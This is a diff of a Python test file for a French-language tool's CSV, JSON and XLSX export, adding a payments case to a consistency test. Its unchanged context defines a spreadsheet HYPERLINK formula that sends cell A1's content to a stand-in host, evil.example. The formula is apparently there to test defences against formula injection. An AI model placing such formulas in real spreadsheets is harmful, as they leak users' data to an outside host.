@@ -19,6 +19,7 @@ from openpyxl import load_workbook
 
 from handlers.export import COLUMNS, DATE_FORMAT, DATETIME_FORMAT, EUROS_FORMAT, WHAT
 from tests.test_cli import database, incubot  # noqa: F401 - the fixture, and the CLI in this process
+from tests.test_import_payments import EJ_B, MANAGER, example_orders, payments_file
 
 HYPERLINK = '=HYPERLINK("https://evil.example/?x="&A1,"Cliquez")'
 
@@ -61,9 +62,16 @@ def same_cell(cell: Any, kind: str, expected: Any) -> None:
 @pytest.mark.parametrize("what", WHAT)
 def test_each_export_says_the_same_in_csv_json_and_xlsx(database: str, capsys: pytest.CaptureFixture[str],  # noqa: F811
                                                         tmp_path: Path, what: str) -> None:
-    """The demo exported as JSON, CSV and XLSX gives the same rows; the XLSX has numbers in euros, dates as
-    dates, a bold frozen header and widened columns."""
-    incubot(capsys, "demo")
+    """The demo (for payments: orders of the example convention, paid by a payments file) exported as JSON, CSV
+    and XLSX gives the same rows; the XLSX has numbers in euros, dates as dates, a bold frozen header and widened
+    columns."""
+    if what == "payments":
+        world = example_orders(database, capsys)
+        file = payments_file(tmp_path, "reference;amount;paid_on", f"{world['a'][0]};10000;2022-06-30",
+                             f"{EJ_B};7000;01/07/2022")
+        assert incubot(capsys, "import-payments", str(file), "--as", MANAGER)[0] == 0
+    else:
+        incubot(capsys, "demo")
     as_json = json.loads(export(capsys, tmp_path, what, "json").read_text(encoding="utf-8"))
     assert as_json, f"the demo has {what}"
     with export(capsys, tmp_path, what, "csv").open(encoding="utf-8", newline="") as f:
